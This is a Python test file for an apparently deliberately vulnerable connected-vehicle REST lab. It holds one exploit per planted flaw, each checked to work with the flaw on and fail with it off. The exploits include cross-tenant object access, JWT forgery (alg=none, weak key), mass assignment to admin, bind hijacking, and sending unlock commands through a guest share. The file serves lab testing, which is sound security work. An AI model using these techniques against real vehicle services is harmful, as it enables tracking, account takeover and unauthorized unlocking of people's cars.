"""Every REST flaw exploited directly with httpx: open with the flaw on, closed with it off.

Each exploit returns True when it got what the flaw promises, proven where possible from the
victim's side. Within one lab every exploit uses its own accounts and vehicles, so they can
share a server. The same exploits run against a lab with all flaws (three shapes), a lab with
none (three shapes), and a lab with only that flaw (canonical shape) so each flaw is shown to
be the cause.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator

import pytest

from iotvet.lab.rest import flaws as F
from tests.lab.rest_fixtures import LabClient, lab_fixture
from tests.lab.rest_fixtures import clean as clean
from tests.lab.rest_fixtures import flawed as flawed

pytestmark = pytest.mark.timeout(60)
Exploit = Callable[[LabClient], bool]
EXPLOITS: dict[str, Exploit] = {}


def exploit(flaw_id: str) -> Callable[[Exploit], Exploit]:
    def register(fn: Exploit) -> Exploit:
        EXPLOITS[flaw_id] = fn
        return fn

    return register


def _reads(c: LabClient, attacker_token: object, asset: object, headers: dict[str, str] | None = None) -> bool:
    ops = ("vehicle.get", "vehicle.location", "vehicle.trips")
    return all(c.readable(c.get(c.path(op, asset), attacker_token, headers=headers), asset)  # type: ignore[arg-type]
               for op in ops)


@exploit(F.BOLA_XBRAND)
def _bola_xbrand(c: LabClient) -> bool:
    cast = c.cast
    return _reads(c, cast.driver(cast.a), cast.vehicle(cast.fleet_admin(cast.b)))


@exploit(F.BOLA_XCUSTOMER)
def _bola_xcustomer(c: LabClient) -> bool:
    cast = c.cast
    return _reads(c, cast.driver(cast.a), cast.vehicle(cast.owner(cast.a)))


@exploit(F.BOLA_COMMAND)
def _bola_command(c: LabClient) -> bool:
    cast = c.cast
    victim = cast.owner(cast.b)
    car = cast.vehicle(victim)
    nonce = uuid.uuid4().hex
    c.call("POST", c.path("vehicle.commands.send", car), cast.family(cast.a),
           json={"command": "ping", "args": {"nonce": nonce}})
    seen = c.get(c.path("vehicle.commands.list", car), victim)  # the victim's own view
    return seen.status_code == 200 and nonce in seen.text


@exploit(F.UNAUTH_LOCATION)
def _unauth_location(c: LabClient) -> bool:
    car = c.cast.vehicle(c.cast.fleet_admin(c.cast.b))
    r = c.get(c.path("vehicle.location", car))
    return r.status_code == 200 and str(car.lat) in r.text


@exploit(F.HIDDEN_ROUTE)
def _hidden_route(c: LabClient) -> bool:
    spec = c.http.get(c.lab.openapi_url).json()
    assert c.shape.hidden_route not in spec["paths"]
    r = c.get(c.shape.hidden_route)
    car = c.cast.vehicle(c.cast.owner(c.cast.b))
    return r.status_code == 200 and car.vin in r.text and car.bind_code in r.text


@exploit(F.BFLA)
def _bfla(c: LabClient) -> bool:
    cast = c.cast
    driver = cast.driver(cast.a)
    users = c.get(c.path("customer.users", customer_id=driver.customer or ""), driver)
    brand = c.get(c.path("brand.users", brand=cast.a), driver)
    admin = cast.fleet_admin(cast.a)
    return admin.email in users.text and cast.owner(cast.a).email in brand.text


@exploit(F.XTENANT_ADMIN)
def _xtenant_admin(c: LabClient) -> bool:
    cast = c.cast
    r = c.get(c.path("brand.users", brand=cast.b), cast.brand_admin(cast.a))
    return r.status_code == 200 and cast.owner(cast.b).email in r.text


@exploit(F.MASS_ASSIGN)
def _mass_assign(c: LabClient) -> bool:
    cast = c.cast
    user = cast.sandbox_driver(cast.a)
    c.call("PATCH", c.path("profile.update"), user, json={"role": "brand-admin", c.shape.field("display_name"): "X"})
    profile = c.body(c.get(c.path("profile.get"), user))
    return bool(profile["role"] == "brand-admin")


@exploit(F.BRAND_HEADER)
def _brand_header(c: LabClient) -> bool:
    cast = c.cast
    car = cast.vehicle(cast.owner(cast.b), 1)
    return _reads(c, cast.fleet_admin(cast.a), car, {c.shape.brand_header: cast.b})


def _victim_profile(c: LabClient, token: str) -> bool:
    victim = c.cast.owner(c.cast.b)
    r = c.get(c.path("profile.get"), token)
    return r.status_code == 200 and victim.email in r.text


@exploit(F.JWT_NONE)
def _jwt_none(c: LabClient) -> bool:
    return _victim_profile(c, c.forge(c.cast.owner(c.cast.b).id, alg="none"))


@exploit(F.JWT_WEAK)
def _jwt_weak(c: LabClient) -> bool:
    return _victim_profile(c, c.forge(c.cast.owner(c.cast.b).id, key=c.shape.weak_key.encode()))


@exploit(F.JWT_UNVERIFIED)
def _jwt_unverified(c: LabClient) -> bool:
    return _victim_profile(c, c.forge(c.cast.owner(c.cast.b).id))


@exploit(F.STALE_TOKEN)
def _stale_token(c: LabClient) -> bool:
    user = c.cast.sandbox_owner(c.cast.a)
    before_logout = c.login(user, fresh=True)
    assert c.call("POST", c.path("logout"), before_logout).status_code == 204
    after_logout = c.get(c.path("profile.get"), before_logout).status_code == 200
    before_change = c.login(user, fresh=True)
    new = "Changed-" + uuid.uuid4().hex[:8]
    r = c.call("POST", c.path("password.change"), before_change,
               json={c.shape.field("current_password"): c.password(user), c.shape.field("new_password"): new})
    assert r.status_code == 204, r.text
    c.passwords[user.username] = new
    after_change = c.get(c.path("profile.get"), before_change).status_code == 200
    return after_logout and after_change


@exploit(F.ENUM_IDS)
def _enum_ids(c: LabClient) -> bool:
    cast = c.cast
    attacker = cast.driver(cast.a, 1)
    foreign = c.get(c.path("vehicle.get", cast.vehicle(cast.fleet_admin(cast.b), 1)), attacker)
    missing = c.get(c.path("vehicle.get", c.missing_id()), attacker)
    return (foreign.status_code, foreign.text) != (missing.status_code, missing.text)


@exploit(F.USER_ENUM)
def _user_enum(c: LabClient) -> bool:
    known = c.cast.sandbox_driver(c.cast.b).username
    unknown = f"nobody-{uuid.uuid4().hex[:8]}.{c.cast.b}"
    a = c.call("POST", c.path("login"), json={"username": known, "password": "wrong-password"})
    b = c.call("POST", c.path("login"), json={"username": unknown, "password": "wrong-password"})
    return (a.status_code, a.text) != (b.status_code, b.text)


@exploit(F.NO_THROTTLE)
def _no_throttle(c: LabClient) -> bool:
    name = f"target-{uuid.uuid4().hex[:8]}"
    codes = {c.call("POST", c.path("login"), json={"username": name, "password": f"guess{i}"}).status_code
             for i in range(8)}
    return 429 not in codes


@exploit(F.BIND_HIJACK)
def _bind_hijack(c: LabClient) -> bool:
    cast = c.cast
    attacker, victim = cast.sandbox_owner(cast.a), cast.sandbox_owner(cast.b)
    car = cast.vehicle(victim, 0)
    c.call("POST", c.path("vehicles.bind"), attacker,
           json={"vin": car.vin, c.shape.field("bind_code"): "000000"})
    return car.id not in c.get(c.path("vehicles.list"), victim).text


@exploit(F.UNBIND_ANY)
def _unbind_any(c: LabClient) -> bool:
    cast = c.cast
    victim = cast.sandbox_owner(cast.b)
    car = cast.vehicles(victim)[-1]
    c.call("POST", c.path("vehicles.unbind"), cast.family(cast.a), json={"vin": car.vin})
    return car.id not in c.get(c.path("vehicles.list"), victim).text


@exploit(F.SHARE_REVOKE)
def _share_revoke(c: LabClient) -> bool:
    cast = c.cast
    owner, guest = cast.sandbox_owner(cast.b), cast.owner(cast.b)
    car = cast.vehicles(owner)[-1]
    r = c.call("POST", c.path("vehicle.shares.create", car), owner, json={"username": guest.username, "role": "guest"})
    assert r.status_code == 201, r.text
    share_id = c.body(r)[c.shape.field("share_id")]
    assert c.readable(c.get(c.path("vehicle.get", car), guest), car)
    r = c.call("DELETE", c.path("vehicle.shares.revoke", car, share_id=share_id), owner)
    assert r.status_code == 204, r.text
    return c.readable(c.get(c.path("vehicle.get", car), guest), car)


@exploit(F.SHARE_ROLE)
def _share_role(c: LabClient) -> bool:
    cast = c.cast
    owner, guest = cast.fleet_admin(cast.a), cast.family(cast.a)
    car = cast.vehicle(owner, 2)
    r = c.call("POST", c.path("vehicle.shares.create", car), owner, json={"username": guest.username, "role": "guest"})
    assert r.status_code == 201, r.text
    nonce = uuid.uuid4().hex
    c.call("POST", c.path("vehicle.commands.send", car), guest, json={"command": "unlock", "args": {"nonce": nonce}})
    unlocked = nonce in c.get(c.path("vehicle.commands.list", car), owner).text
    reshared = c.call("POST", c.path("vehicle.shares.create", car), guest,
                      json={"username": cast.driver(cast.a, 1).username, "role": "driver"}).status_code == 201
    return unlocked and reshared


@exploit(F.SHARED_CRED)
def _shared_cred(c: LabClient) -> bool:
    world = c.lab.world
    devices = {a.username: a for a in world.mqtt_accounts(c.lab.flaws) if a.kind == "device"}
    by_model: dict[tuple[str, str], list[str]] = {}
    for asset in [*world.simulated_assets(), *world.bench_assets()]:  # every device with a broker account
        by_model.setdefault((asset.tenant, asset.model), []).append(devices[asset.id].password)
    # some model with two or more devices has a single password between them
    return any(len(pw) > 1 and len(set(pw)) == 1 for pw in by_model.values())


@exploit(F.INPUT_CRASH)
def _input_crash(c: LabClient) -> bool:
    user = c.cast.driver(c.cast.a)
    r = c.get(c.path("vehicle.trips", c.cast.vehicle(user)), user, params={"since": "yesterday"})
    return r.status_code == 500


@exploit(F.PLAINTEXT)
def _plaintext(c: LabClient) -> bool:
    if c.lab.plain_base_url is None:
        return False
    import httpx  # noqa: TID251

    user = c.cast.fleet_admin(c.cast.b)
    r = httpx.post(c.lab.plain_base_url + c.path("login"),
                   json={"username": user.username, "password": c.password(user)})
    return r.status_code == 200


def test_every_rest_flaw_has_an_exploit() -> None:
    assert set(EXPLOITS) == set(F.REST_FLAWS)


@pytest.mark.parametrize("flaw_id", sorted(EXPLOITS))
def test_exploit_works_with_flaws_on(flawed: LabClient, flaw_id: str) -> None:
    assert EXPLOITS[flaw_id](flawed), f"{flaw_id} did not open in shape {flawed.shape.seed}"


@pytest.mark.parametrize("flaw_id", sorted(EXPLOITS))
def test_exploit_fails_with_flaws_off(clean: LabClient, flaw_id: str) -> None:
    assert not EXPLOITS[flaw_id](clean), f"{flaw_id} is open in shape {clean.shape.seed} with no flaws"


@pytest.fixture(params=sorted(EXPLOITS))
def alone(request: pytest.FixtureRequest) -> Iterator[tuple[str, LabClient]]:
    for client in lab_fixture(request.param, 0):
        yield request.param, client


def test_each_flaw_alone_opens_its_exploit(alone: tuple[str, LabClient]) -> None:
    flaw_id, client = alone
    assert EXPLOITS[flaw_id](client)


def test_brand_header_alone_needs_the_header() -> None:
    for client in lab_fixture(F.BRAND_HEADER, 3):
        cast = client.cast
        car = cast.vehicle(cast.owner(cast.b))
        assert not _reads(client, cast.fleet_admin(cast.a), car)
        assert _reads(client, cast.fleet_admin(cast.a), car, {client.shape.brand_header: cast.b})
